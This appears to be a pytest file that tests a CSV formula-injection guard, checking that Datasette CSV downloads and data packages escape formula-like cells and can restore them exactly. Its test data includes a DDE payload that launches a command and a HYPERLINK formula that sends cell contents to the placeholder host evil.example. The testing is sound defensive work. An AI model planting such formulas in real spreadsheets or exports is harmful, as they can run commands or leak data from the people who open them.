"""Would-be spreadsheet formulas in CSV cells are made inert, in data packages and in Datasette's
CSV downloads, and the raw values can be had back exactly."""

from __future__ import annotations

import csv
import io
import random
import shutil
import sqlite3

import pytest
from datasette.app import Datasette

from clippings.csvcells import FormulaGuard, neutralise, restore
from clippings.publish import load_metadata


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # so that restore() is exact
        ("''-x", "'''-x"),
        ("-5", "-5"),  # a number cannot run
        ("+1.5e3", "+1.5e3"),
        ("-", "'-"),
        ("'quoted'", "'quoted'"),
        ("Harvey Weinstein", "Harvey Weinstein"),
        ("", ""),
    ],
)
def test_neutralise_and_restore(value, written):
    assert neutralise(value) == written
    assert restore(written) == value


CELL_PIECES = ["=", "+", "-", "@", "\t", "\r", "\n", "'", '"', ",", "1", "2", ".", "e", "a", " ", "é"]


def test_formula_guard_on_a_stream_agrees_with_neutralise():
    """Cells as csv.writer writes them, fed in chunks cut anywhere: the same cells as neutralise() gives."""
    chance = random.Random(13)
    for _ in range(3000):
        table = [
            ["".join(chance.choice(CELL_PIECES) for _ in range(chance.randint(0, 7))) for _ in range(chance.randint(1, 4))]
            for _ in range(chance.randint(1, 3))
        ]
        written = io.StringIO()
        csv.writer(written).writerows(table)
        data, guard, out = written.getvalue().encode(), FormulaGuard(), b""
        position = 0
        while position < len(data):
            size = chance.randint(1, 6)
            out += guard.feed(data[position : position + size])
            position += size
        out += guard.close()
        assert list(csv.reader(io.StringIO(out.decode(), newline=""))) == [[neutralise(c) for c in row] for row in table]


HOSTILE_TITLES = {
    1: '=HYPERLINK("http://evil.example/?"&A1, "Click here")',
    2: "-2+3+cmd|' /C calc'!A0",
    3: "@SUM(1+1)",
    4: "\t=1+1",
    5: "+1",  # a number: left alone
    6: "'=1",
}


@pytest.fixture(scope="module")
def hostile_titles(demo_archive, tmp_path_factory):
    path = tmp_path_factory.mktemp("formulas") / "archive.db"
    shutil.copy(demo_archive, path)
    conn = sqlite3.connect(path)
    conn.executemany("UPDATE articles SET title = ? WHERE id = ?", [(t, i) for i, t in HOSTILE_TITLES.items()])
    conn.commit()
    conn.close()
    return path


def cells(text: str, column: str) -> dict[int, str]:
    return {int(r["id"]): r[column] for r in csv.DictReader(io.StringIO(text, newline=""))}


@pytest.mark.asyncio
@pytest.mark.parametrize(
    "path",
    [
        "/archive/articles.csv?_col=title",
        "/archive/articles.csv?_col=title&_stream=on&_size=1",
        "/archive/articles.csv?_col=title&_dl=1",
        "/archive.csv?sql=select+id,+title+from+articles",
    ],
)
async def test_datasette_csv_downloads_neutralise_formulas(hostile_titles, path):
    ds = Datasette([str(hostile_titles)], metadata=load_metadata(hostile_titles))
    response = await ds.client.get(path)
    assert response.status_code == 200
    titles = cells(response.text, "title")
    assert {i: titles[i] for i in HOSTILE_TITLES} == {i: neutralise(t) for i, t in HOSTILE_TITLES.items()}
    assert titles[1].startswith("'=") and titles[5] == "+1"
    assert {i: restore(titles[i]) for i in HOSTILE_TITLES} == HOSTILE_TITLES


@pytest.mark.asyncio
async def test_datasette_json_keeps_raw_values(hostile_titles):
    ds = Datasette([str(hostile_titles)], metadata=load_metadata(hostile_titles))
    data = (await ds.client.get("/archive/articles.json?_shape=array&_col=title&id=1")).json()
    assert data[0]["title"] == HOSTILE_TITLES[1]
